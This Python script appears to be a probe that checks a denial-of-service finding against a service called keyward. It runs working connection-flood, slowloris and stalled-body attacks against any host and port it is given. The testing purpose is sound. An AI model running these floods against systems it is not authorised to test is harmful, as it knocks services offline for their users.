"""Issue 12 finding 1, measured against a running keyward: idle flood past the fd limit,
slowloris heads, a stalled 10 GB body. Usage: python3 dos_probe.py HOST PORT"""
import resource, socket, sys, threading, time, urllib.request

host, port = sys.argv[1], int(sys.argv[2])
resource.setrlimit(resource.RLIMIT_NOFILE, (8192, resource.getrlimit(resource.RLIMIT_NOFILE)[1]))

def healthy(timeout=2.0):
    t = time.monotonic()
    try:
        with urllib.request.urlopen(f"http://{host}:{port}/healthz", timeout=timeout) as r:
            return r.status == 200, time.monotonic() - t
    except Exception:
        return False, time.monotonic() - t

def closed_after(sock, limit):
    sock.settimeout(limit)
    t = time.monotonic()
    try:
        while sock.recv(4096):
            pass
    except socket.timeout:
        return None
    except OSError:
        pass
    return time.monotonic() - t

# 1. 1,100 idle connections.
idle = []
for _ in range(1100):
    s = socket.socket(); s.connect((host, port)); idle.append(s)
ok, took = healthy()
print(f"idle flood: 1100 idle connections open; a new client served={ok} in {took*1000:.0f} ms")
t = time.monotonic(); served = ok
while not served and time.monotonic() - t < 30:
    served, _ = healthy(); time.sleep(0.2)
print(f"idle flood: first new client served after {time.monotonic()-t:.1f} s")
closes = [closed_after(s, 20) for s in idle[:50]]
print(f"idle flood: of 50 sampled idle connections, closed by the server: {sum(c is not None for c in closes)}")
for s in idle: s.close()

# 2. 500 slowloris connections, one header byte per second.
slow = []
for _ in range(500):
    s = socket.socket(); s.connect((host, port)); slow.append(s)
start = time.monotonic(); alive = set(range(500)); closed_at = {}
head = b"GET /healthz HTTP/1.1\r\nHost: x\r\nX-Pad: " + b"a" * 200
i = 0
while alive and time.monotonic() - start < 40:
    for n in list(alive):
        try:
            slow[n].send(head[i % len(head):i % len(head) + 1])
        except OSError:
            alive.discard(n); closed_at[n] = time.monotonic() - start
    i += 1
    time.sleep(1)
ts = sorted(closed_at.values())
print(f"slowloris: {len(closed_at)}/500 cut off; median {ts[len(ts)//2]:.1f} s, last {ts[-1]:.1f} s" if ts else "slowloris: none cut off in 40 s")
ok, took = healthy(); print(f"slowloris: a new client served during it={ok}")
for s in slow: s.close()

# 3. A request announcing a 10 GB body that sends 10 bytes.
s = socket.socket(); s.connect((host, port))
s.send(b"POST /v1/keys/verify HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 10000000000\r\n\r\n0123456789")
t = time.monotonic(); s.settimeout(60); data = b""
try:
    while True:
        chunk = s.recv(4096)
        if not chunk: break
        data += chunk
except socket.timeout:
    pass
print(f"stalled body: answered {data.split(b' ')[1].decode() if data else 'nothing'} and closed after {time.monotonic()-t:.1f} s")
